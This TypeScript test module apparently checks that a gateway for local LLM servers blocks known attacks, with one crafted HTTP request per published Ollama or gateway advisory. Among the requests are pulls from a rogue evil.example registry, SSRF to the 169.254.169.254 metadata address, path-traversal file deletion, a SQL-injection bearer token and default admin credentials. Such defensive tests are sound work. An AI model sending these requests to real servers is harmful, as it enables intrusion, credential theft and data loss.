import { noDigest } from '../../site/endpoints.ts'
import { body, type Hostile, hosts, nobody, plain, post } from './form.ts'

const to = (id: string, name: string, path: string, json: object): Hostile => ({
  id,
  name: `${id}: ${name}`,
  expect: '403',
  bytes: post(path, ['Content-Type: application/json'], JSON.stringify(json)),
})

const at = (id: string, name: string, line: string, more: string[] = [], text?: string): Hostile => ({
  id,
  name: `${id}: ${name}`,
  expect: '403',
  bytes: plain(line, more, text),
})

/** A model to create from a file that is not there. */
const from = (file: string) => ({ model: nobody, files: { [file]: noDigest } })
const registry = `evil.example/rogue/${nobody}`

/** One request at least for each published advisory on Ollama that a network can carry (facts: peers.md §4.2). */
export const advisories: Hostile[] = [
  {
    id: 'CVE-2024-28224',
    name: 'CVE-2024-28224: DNS rebinding',
    expect: '421',
    bytes: hosts(({ port }) => [`Host: rebound.example:${port}`]),
  },
  to('CVE-2024-37032', 'digest path traversal by a rogue registry', '/api/pull', { model: registry, insecure: true }),
  to('CVE-2024-45436', 'ZIP members outside the parent', '/api/create', from('a.zip')),
  to('CVE-2024-39720', 'out-of-bounds read of a short GGUF', '/api/create', from('a.gguf')),
  to('CVE-2024-12055', 'out-of-bounds read', '/api/create', { model: nobody, from: noDigest }),
  to('CVE-2024-12886', 'gzip bomb', '/api/pull', { model: registry }),
  to('CVE-2025-0312', 'null pointer', '/api/create', from('null.gguf')),
  to('CVE-2025-0315', 'memory exhaustion', '/api/create', from('large.gguf')),
  to('CVE-2025-0317', 'divide by zero', '/api/create', from('zero.gguf')),
  to('CVE-2024-8063', 'divide by zero in block count', '/api/create', from('blocks.gguf')),
  to('CVE-2024-39719', 'file existence oracle', '/api/create', { model: nobody, path: '/no/such/file' }),
  to('CVE-2024-39721', 'a device that never ends as a file', '/api/create', { model: nobody, path: '/dev/null' }),
  to('CVE-2024-39722', 'path oracle', '/api/push', { model: `../../no/such/${nobody}`, insecure: true }),
  to('CVE-2025-1975', 'crash on a manifest', '/api/pull', { model: registry }),
  to('CVE-2025-51471', 'token sent to a foreign realm', '/api/pull', { model: registry }),
  at('CVE-2025-44779', 'arbitrary file deletion', 'DELETE /api/delete', [], `{"model":"../../../no/such/${nobody}"}`),
  ...['pull', 'push', 'create', 'copy'].map((verb) =>
    to('CVE-2025-63389', `${verb} without a key`, `/api/${verb}`, { model: nobody }),
  ),
  at('CVE-2025-63389', 'delete without a key', 'DELETE /api/delete', [], body),
  at('CVE-2026-7482', 'the blob that reads the heap', `POST /api/blobs/${noDigest}`, [], 'GGUF'),
  at('CVE-2026-7482', 'is the blob there', `HEAD /api/blobs/${noDigest}`),
  to('CVE-2026-7482', 'a model from the blob', '/api/create', { ...from('a'), quantize: 'q8_0' }),
  to('CVE-2026-7482', 'its way out', '/api/push', { model: registry, insecure: true }),
  to('CVE-2026-7020', 'digest path traversal in a transfer', '/api/pull', { model: `evil.example/../${nobody}` }),
  to('ollama#16656', 'a request of the server’s own by pull', '/api/pull', {
    model: `http://169.254.169.254/${nobody}`,
    insecure: true,
  }),
  at('ollama#16656', 'a web page reads what show leaks', 'POST /api/show', ['Origin: https://evil.example'], body),
]

/** One for each lesson of another gateway that a request can carry (facts: peers.md §4.3). */
export const lessons: Hostile[] = [
  {
    id: 'CVE-2024-6587',
    name: 'CVE-2024-6587: the client names the destination',
    expect: '200 →',
    bytes: post(
      '/v1/messages',
      ['api-base: http://evil.example'],
      JSON.stringify({ model: nobody, api_base: 'http://evil.example' }),
    ),
  },
  at('CVE-2024-2952', 'a template of the client’s', 'POST /completions', [], body),
  at('CVE-2026-42208', 'SQL in the key', 'POST /api/copy', ["Authorization: Bearer ' OR 1=1 --"], body),
  {
    id: 'CVE-2026-49468',
    name: 'CVE-2026-49468: a Host that moves the path',
    expect: '421|400',
    bytes: hosts(() => ['Host: x/#@y']),
  },
  at('CVE-2026-59822', 'an unknown user falls back to one', 'POST /api/me', ['Authorization: Bearer '], '{}'),
  at('CVE-2026-35029', 'the configuration as an endpoint', 'POST /config/update', [], '{}'),
  at('GHSA-v4p8-mg3p-g94g', 'a login', 'GET /login'),
  at('GHSA-xqmj-j6mv-4862', 'a template to render', 'POST /prompts/test', [], '{}'),
  at('GHSA-69x8-hrgq-fjj8', 'a command to test', 'POST /mcp-rest/test/connection', [], '{}'),
  at('GHSA-57q6-fvp4-pqmm', 'a key in the other header opens no route', 'POST /api/pull', ['x-api-key: k'], body),
  at('vllm#42064', 'a route that the guard forgot', 'GET /metrics', ['Authorization: Bearer none']),
  at('vllm-mlx#317', 'another one', 'GET /v1/mcp/tools'),
  at('llama.cpp#27027', 'the slots with what others asked', 'GET /slots'),
  at('llama.cpp#5837', 'the properties with the prompt', 'GET /props'),
  at('Malcolm#1055', 'raw path compared, decoded path served', 'GET /api%2Ftags/..%2f..%2fapi%2fps'),
  at('Malcolm#1106', 'a path with a parameter in it', 'GET /api;x=/tags/../ps'),
  at('ingress-nginx#8644', 'a path that begins twice', 'GET //api/tags'),
  at('lollms_hub', 'the page of the administrator', 'GET /admin', ['Authorization: Basic YWRtaW46Y2hhbmdlbWU=']),
]
